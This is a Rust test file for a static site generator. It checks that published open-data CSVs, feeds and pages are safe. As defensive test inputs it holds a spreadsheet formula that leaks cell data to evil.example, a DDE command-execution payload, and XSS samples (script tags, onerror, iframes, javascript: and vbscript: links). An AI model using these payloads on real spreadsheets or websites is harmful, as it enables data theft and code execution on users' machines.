//! Safe to publish: open data that cannot attack whoever opens it, inputs
//! that cannot make a build take quadratic time, sums that cannot wrap.

mod common;

use std::time::{Duration, Instant};

use common::*;

/// A programme of the `plan` fixture, with extra front matter.
fn programme(title: &str, extra: &str) -> String {
    format!(
        "+++\ntitle = {title:?}\npillar = \"smart-economy\"\nstatus = \"planned\"\nstart = 2025\nlead = \"bappeda\"\n{extra}+++\nText.\n"
    )
}

#[test]
fn open_data_cells_never_start_a_formula() {
    let site = copy_site("plan");
    let programs = site.path().join("content/programs");
    std::fs::write(
        programs.join("formula.md"),
        programme(
            "=HYPERLINK(\"https://evil.example/?leak=\"&A2,\"Klik\")",
            "",
        ),
    )
    .unwrap();
    std::fs::write(
        programs.join("plus.md"),
        programme("+cmd|' /C calc'!A0", ""),
    )
    .unwrap();
    std::fs::write(programs.join("@SUM(1+1).md"), programme("At", "")).unwrap();
    std::fs::write(programs.join("-2+3.md"), programme("Minus", "")).unwrap();
    let out = site.path().join("public");
    build_ok(site.path(), &out, &[]);
    let csv = std::fs::read_to_string(out.join("data/programs.csv")).unwrap();
    for line in csv.lines().skip(1) {
        for cell in cells(line) {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell starts a formula: {cell:?} in {line}"
            );
        }
    }
    assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
    assert!(csv.contains("'+cmd|"), "{csv}");
    assert!(csv.contains("\n'@SUM(1+1),"), "{csv}");
    assert!(csv.contains("\n'-2+3,"), "{csv}");
}

/// The cells of a CSV line (RFC 4180 quoting).
fn cells(line: &str) -> Vec<String> {
    let mut out = vec![String::new()];
    let mut quoted = false;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                out.last_mut().unwrap().push('"');
            }
            ('"', _) => quoted = !quoted,
            (',', false) => out.push(String::new()),
            (c, _) => out.last_mut().unwrap().push(c),
        }
    }
    out
}

#[test]
fn budgets_too_large_to_count_are_an_error_naming_the_file() {
    let site = copy_site("plan");
    let row = |n: i64| format!("[[budget]]\nyear = 2025\namount = {n}\nsource = \"APBD\"\n\n");
    std::fs::write(
        site.path().join("content/programs/besar.md"),
        programme("Besar", &format!("\n{}{}", row(i64::MAX), row(i64::MAX))),
    )
    .unwrap();
    let out = site.path().join("public");
    let o = build(site.path(), &out, &[]);
    assert_eq!(o.status.code(), Some(1));
    let err = stderr(&o);
    assert!(err.contains("content/programs/besar.md"), "{err}");
    assert!(
        err.contains("add up to more than terbit can count"),
        "{err}"
    );
    // Each programme countable, the plan's sum not.
    std::fs::write(
        site.path().join("content/programs/besar.md"),
        programme("Besar", &format!("\n{}", row(i64::MAX))),
    )
    .unwrap();
    std::fs::write(
        site.path().join("content/programs/besar-juga.md"),
        programme("Besar juga", &format!("\n{}", row(i64::MAX))),
    )
    .unwrap();
    let o = build(site.path(), &out, &[]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stderr(&o).contains("the plan's budgets add up to more"),
        "{}",
        stderr(&o)
    );
    assert!(!out.exists());
}

/// Inputs that took quadratic time (4,000 headings: 40 s; 20,000 budget
/// rows: 21 s) build in a small share of that, even in a debug build.
#[test]
fn many_headings_and_budget_rows_build_in_linear_time() {
    let site = copy_site("plan");
    let headings = "# h\n\n".repeat(10_000);
    std::fs::write(
        site.path().join("content/judul.md"),
        format!("+++\ntitle = \"Judul\"\n+++\n{headings}"),
    )
    .unwrap();
    let rows: String = (0..20_000)
        .map(|i| {
            format!(
                "[[budget]]\nyear = {}\namount = 1\nsource = \"APBD\"\n\n",
                2025 + i % 3
            )
        })
        .collect();
    std::fs::write(
        site.path().join("content/programs/banyak.md"),
        programme("Banyak", &format!("end = 2027\n\n{rows}")),
    )
    .unwrap();
    let out = site.path().join("public");
    let started = Instant::now();
    build_ok(site.path(), &out, &[]);
    let took = started.elapsed();
    assert!(took < Duration::from_secs(30), "took {took:?}");
    let page = std::fs::read_to_string(out.join("judul/index.html")).unwrap();
    assert!(page.contains("id=\"h-9999\""));
}

#[test]
fn raw_html_is_sanitised_with_a_warning_naming_the_line() {
    let site = copy_site("plan");
    std::fs::write(
        site.path().join("content/tempel.md"),
        "+++\ntitle = \"Tempel\"\n+++\nTeks biasa.\n\n<script>alert('x')</script>\n\n\
         <img src=\"x.png\" alt=\"Foto\" onerror=\"alert(1)\">\n\n\
         <iframe src=\"https://evil.example/\"></iframe>\n\n\
         <details><summary>Lebih lanjut</summary>Isi <abbr title=\"Satuan Kerja\">Satker</abbr>.</details>\n",
    )
    .unwrap();
    let out = site.path().join("public");
    let o = build(site.path(), &out, &[]);
    assert!(o.status.success(), "{}", stderr(&o));
    let err = stderr(&o);
    for (line, what) in [(6, "`<script>`"), (8, "`onerror`"), (10, "`<iframe>`")] {
        assert!(
            err.contains(&format!("content/tempel.md:{line}:")) && err.contains(what),
            "no warning for {what} at line {line}:\n{err}"
        );
    }
    let html = std::fs::read_to_string(out.join("tempel/index.html")).unwrap();
    let main = html.split("<main").nth(1).unwrap();
    for gone in ["<script>alert", "onerror", "evil.example", "<iframe"] {
        assert!(!main.contains(gone), "{gone} reached the page");
    }
    assert!(main.contains("<details><summary>Lebih lanjut</summary>"));
    assert!(main.contains("<abbr title=\"Satuan Kerja\">Satker</abbr>"));
    // A frame from a host the site lists stays.
    let config = site.path().join("terbit.toml");
    let mut text = std::fs::read_to_string(&config).unwrap();
    text.push_str("\n[markdown]\nembed_hosts = [\"video.example.org\"]\n");
    std::fs::write(&config, text).unwrap();
    std::fs::write(
        site.path().join("content/tempel.md"),
        "+++\ntitle = \"Tempel\"\n+++\n<iframe src=\"https://video.example.org/embed/1\" title=\"Video\"></iframe>\n",
    )
    .unwrap();
    build_ok(site.path(), &out, &[]);
    let html = std::fs::read_to_string(out.join("tempel/index.html")).unwrap();
    assert!(html.contains("<iframe src=\"https://video.example.org/embed/1\""));
}

#[test]
fn links_to_scripts_are_errors_in_markdown_and_raw_html() {
    let site = copy_site("plan");
    std::fs::write(
        site.path().join("content/tautan.md"),
        "+++\ntitle = \"Tautan\"\n+++\n[x](javascript:alert(1))\n\n<a href=\"data:text/html,<b>x</b>\">y</a>\n\n[z](vbscript:msgbox)\n",
    )
    .unwrap();
    let out = site.path().join("public");
    let o = build(site.path(), &out, &[]);
    assert_eq!(o.status.code(), Some(1));
    let err = stderr(&o);
    for (line, scheme) in [(4, "javascript"), (6, "data"), (8, "vbscript")] {
        assert!(
            err.contains(&format!("content/tautan.md:{line}:"))
                && err.contains(&format!("`{scheme}:`")),
            "{scheme} at line {line}:\n{err}"
        );
    }
}

#[test]
fn names_that_collide_on_real_hosts_are_errors_naming_both_files() {
    let site = copy_site("plan");
    let content = site.path().join("content");
    let page = |title: &str| format!("+++\ntitle = \"{title}\"\n+++\n");
    std::fs::write(content.join("Kegiatan.md"), page("A")).unwrap();
    std::fs::write(content.join("kegiatan.md"), page("B")).unwrap();
    // NFC and NFD spellings of the same word.
    std::fs::write(content.join("caf\u{e9}.md"), page("C")).unwrap();
    std::fs::write(content.join("cafe\u{301}.md"), page("D")).unwrap();
    // A page where the site writes its search page.
    std::fs::write(content.join("cari.md"), page("E")).unwrap();
    let out = site.path().join("public");
    let o = build(site.path(), &out, &[]);
    assert_eq!(o.status.code(), Some(1));
    let err = stderr(&o);
    assert!(
        err.contains("content/kegiatan.md") && err.contains("content/Kegiatan.md"),
        "{err}"
    );
    assert!(err.contains("letter case"), "{err}");
    assert!(err.contains("caf"), "{err}");
    assert!(
        err.contains("content/cari.md") && err.contains("where the site puts the search page"),
        "{err}"
    );
    assert!(!out.exists());
}

#[test]
fn edition_ids_windows_reserves_are_refused() {
    let site = copy_site("plan");
    for id in ["con", "nul.txt", "com1"] {
        let o = terbit(&[
            "edition",
            "freeze",
            id,
            "--root",
            site.path().to_str().unwrap(),
        ]);
        assert_eq!(o.status.code(), Some(1), "{id}");
        assert!(
            stderr(&o).contains("Windows reserves"),
            "{id}: {}",
            stderr(&o)
        );
    }
}

#[test]
fn a_slug_windows_reserves_is_refused() {
    let site = copy_site("plan");
    let content = site.path().join("content");
    std::fs::write(
        content.join("perangkat.md"),
        "+++\ntitle = \"Perangkat\"\nslug = \"CON\"\n+++\n",
    )
    .unwrap();
    let o = build(site.path(), &site.path().join("public"), &[]);
    assert_eq!(o.status.code(), Some(1));
    let err = stderr(&o);
    assert!(err.contains("content/perangkat.md:3"), "{err}");
    assert!(err.contains("Windows reserves"), "{err}");
}

#[cfg(unix)]
#[test]
fn links_that_loop_or_lead_to_folders_are_named_as_such() {
    let site = copy_site("plan");
    let content = site.path().join("content");
    std::os::unix::fs::symlink("putaran.md", content.join("putaran.md")).unwrap();
    std::fs::create_dir(site.path().join("berkas")).unwrap();
    std::fs::write(site.path().join("berkas/a.md"), "+++\ntitle = \"A\"\n+++\n").unwrap();
    std::os::unix::fs::symlink(site.path().join("berkas"), content.join("berkas")).unwrap();
    let out = site.path().join("public");
    let o = build(site.path(), &out, &[]);
    assert!(o.status.success(), "{}", stderr(&o));
    let err = stderr(&o);
    assert!(
        err.contains("content/putaran.md") && err.contains("a loop"),
        "{err}"
    );
    assert!(
        err.contains("content/berkas") && err.contains("to a folder is not followed"),
        "{err}"
    );
    // Freezing an edition says so too, instead of skipping the folder silently.
    let o = terbit(&[
        "edition",
        "freeze",
        "2024",
        "--root",
        site.path().to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("to a folder is not followed"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn characters_xml_forbids_never_reach_feeds_or_the_sitemap() {
    let site = copy_site("plan");
    std::fs::write(
        site.path().join("content/news/kendali.md"),
        "+++\ntitle = \"Kendali\\u0001 dan \\uFFFE tanda\"\ndate = 2024-02-01\n+++\nTeks.\n",
    )
    .unwrap();
    let out = site.path().join("public");
    build_ok(site.path(), &out, &[]);
    for file in ["atom.xml", "en/atom.xml", "sitemap.xml"] {
        let xml = std::fs::read_to_string(out.join(file)).unwrap();
        assert!(
            !xml.chars()
                .any(|c| (c.is_control() && !matches!(c, '\n' | '\r' | '\t')) || c == '\u{fffe}'),
            "{file} has a character XML forbids"
        );
    }
    let feed = std::fs::read_to_string(out.join("atom.xml")).unwrap();
    assert!(feed.contains("<title>Kendali dan  tanda</title>"), "{feed}");
}

#[test]
fn a_content_page_named_404_keeps_its_own_title() {
    let site = copy_site("plan");
    std::fs::write(
        site.path().join("content/404.md"),
        "+++\ntitle = \"Halaman khusus\"\n+++\nTeks.\n",
    )
    .unwrap();
    let out = site.path().join("public");
    build_ok(site.path(), &out, &[]);
    let page = Html::load(&out.join("404/index.html"));
    assert!(
        page.one("title").text.starts_with("Halaman khusus"),
        "{}",
        page.one("title").text
    );
    // The site's own page for missing paths keeps the theme's title.
    let missing = Html::load(&out.join("404.html"));
    assert!(
        missing
            .one("title")
            .text
            .starts_with("Halaman tidak ditemukan")
    );
}
